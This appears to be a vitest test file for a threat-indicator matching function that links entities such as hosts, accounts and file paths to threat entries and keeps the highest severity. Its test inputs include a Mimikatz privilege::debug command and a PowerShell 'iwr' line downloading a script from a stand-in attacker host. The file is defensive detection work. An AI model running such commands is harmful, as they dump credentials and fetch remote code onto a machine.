import { expect, it } from 'vitest';
import { namedByThreats } from './named-by-threats.ts';

const entities = ['mimikatz.exe', 'CORP\\alice', 'alice', 'evil.example', 'a', '10.0.0.1', 'C:\\Temp\\run me.ps1'].map(
  (value) => ({ value }),
);
const named = (value: string) =>
  namedByThreats(entities, [{ category: 'tools', severity: 'high', value }]).map(
    ({ entity }) => entities[entity]!.value,
  );

it.each([
  ['"C:\\Users\\Public\\MIMIKATZ.exe" privilege::debug', ['mimikatz.exe']],
  ['corp\\ALICE', ['CORP\\alice', 'alice']],
  ['powershell iwr https://bob:x@evil.example:8443/a.ps1', ['evil.example']],
  ['10.0.0.10', []],
  ['a banana', ['a']],
  ['banana', []],
  ['c:\\temp\\RUN ME.ps1', ['C:\\Temp\\run me.ps1']],
])('in %s names are whole words, paths, hosts and accounts', (value, expected) => {
  expect(named(value)).toEqual(expected);
});

it('keeps the worst of a kind', () => {
  const threats = (['low', 'critical', 'high'] as const).map((severity) => ({
    category: 't',
    severity,
    value: 'alice',
  }));
  expect(namedByThreats(entities, [...threats, { category: 'u', severity: 'low', value: 'alice' }])).toEqual([
    { entity: 2, category: 't', severityRank: 0 },
    { entity: 2, category: 'u', severityRank: 3 },
  ]);
});
